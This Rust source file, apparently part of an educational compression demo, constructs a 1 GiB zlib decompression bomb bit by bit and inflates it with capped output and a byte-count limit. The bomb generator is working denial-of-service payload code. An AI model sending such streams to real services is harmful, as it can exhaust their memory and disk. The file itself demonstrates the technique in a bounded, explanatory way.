//! A decompression bomb, built bit by bit: one dynamic-Huffman block whose codes
//! make each 258-byte copy cost 2 bits, DEFLATE's best (1032:1). No smaller
//! single stream can inflate to this much; real bombs nest archives.

use crate::zlib::{self, Capped};

/// What the bomb inflates to: 1 GiB plus the first literal.
pub const BOMB_TOTAL: u64 = 1 + 258 * 4_161_790;

/// Output bytes shown on the page (the rest is only counted).
pub const BOMB_SHOWN: usize = 1 << 20;

/// Output bytes counted before giving up: bounds the work to a fraction of a second.
pub const BOMB_COUNT_LIMIT: u64 = 64 << 20;

/// LSB-first bit writer (RFC 1951 3.1.1).
struct Bits {
    out: Vec<u8>,
    used: u32,
}

impl Bits {
    fn put(&mut self, value: u32, count: u32) {
        for i in 0..count {
            if self.used == 0 {
                self.out.push(0);
            }
            if value >> i & 1 == 1 {
                if let Some(last) = self.out.last_mut() {
                    *last |= 1 << self.used;
                }
            }
            self.used = (self.used + 1) % 8;
        }
    }

    /// A Huffman code: sent most significant bit first.
    fn code(&mut self, code: u32, len: u32) {
        for i in (0..len).rev() {
            self.put(code >> i & 1, 1);
        }
    }

    /// `count` zero bits, written as whole zero bytes where possible.
    fn zeros(&mut self, mut count: u64) {
        while count > 0 && self.used != 0 {
            self.put(0, 1);
            count -= 1;
        }
        let bytes = usize::try_from(count / 8).unwrap_or(0);
        self.out.resize(self.out.len().saturating_add(bytes), 0);
        self.put(0, (count % 8) as u32);
    }
}

/// A zlib stream (wbits 15) of one literal `\0` then `copies` copies of 258 bytes
/// at distance 1: it inflates to `1 + 258 * copies` zero bytes.
pub fn bomb_stream(copies: u64) -> Vec<u8> {
    let mut b = Bits {
        out: vec![0x78, 0xda],
        used: 0,
    };
    b.put(1, 1); // BFINAL
    b.put(2, 2); // BTYPE 10: dynamic
    b.put(29, 5); // HLIT: 286 literal/length codes
    b.put(0, 5); // HDIST: 1 distance code
    b.put(14, 4); // HCLEN: 18 code length codes
                  // Code length code lengths in RFC order 16,17,18,0,8,7,9,6,10,5,11,4,12,3,13,2,14,1:
                  // symbol 18 (a run of zeros) 1 bit, symbols 1 and 2 two bits each.
    for len in [0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 2] {
        b.put(len, 3);
    }
    // Canonical codes: 18 -> 0, 1 -> 10, 2 -> 11.
    let (run, one, two) = ((0, 1), (0b10, 2), (0b11, 2));
    b.code(two.0, two.1); // literal 0: length 2
    b.code(run.0, run.1);
    b.put(138 - 11, 7); // literals 1..=138: unused
    b.code(run.0, run.1);
    b.put(117 - 11, 7); // literals 139..=255: unused
    b.code(two.0, two.1); // 256, end of block: length 2
    b.code(run.0, run.1);
    b.put(28 - 11, 7); // lengths 257..=284: unused
    b.code(one.0, one.1); // 285 (length 258): length 1
    b.code(one.0, one.1); // distance code 0 (distance 1): length 1
                          // Literal/length codes: 285 -> 0, literal 0 -> 10, 256 -> 11; distance 0 -> 0.
    b.code(0b10, 2);
    b.zeros(copies.saturating_mul(2));
    b.code(0b11, 2);
    let total = copies.saturating_mul(258).saturating_add(1);
    // Adler-32 of zeros: A stays 1, B adds 1 per byte.
    let adler = ((total % 65521) as u32) << 16 | 1;
    b.out.extend_from_slice(&adler.to_be_bytes());
    b.out
}

/// The name the page's download gives the bomb's stream, and the Python opens.
pub const BOMB_FILE: &str = "bomb.zlib";

/// The 1 GiB bomb's stream (about 1 MB): pure bit writing, cheap enough to rebuild
/// wherever it is needed rather than send it.
pub fn the_bomb() -> Vec<u8> {
    bomb_stream((BOMB_TOTAL - 1) / 258)
}

/// The bomb, inflated safely: what is shown, what was counted.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Bomb {
    pub stream_len: usize,
    /// What the stream would inflate to (from its construction).
    pub claimed: u64,
    pub capped: Capped,
}

impl Bomb {
    /// Builds the 1 GiB bomb and inflates it with the output and the count capped.
    pub fn load() -> Bomb {
        let stream = the_bomb();
        let capped = zlib::inflate_capped_to(&stream, 15, BOMB_SHOWN, BOMB_COUNT_LIMIT);
        Bomb {
            stream_len: stream.len(),
            claimed: BOMB_TOTAL,
            capped,
        }
    }
}
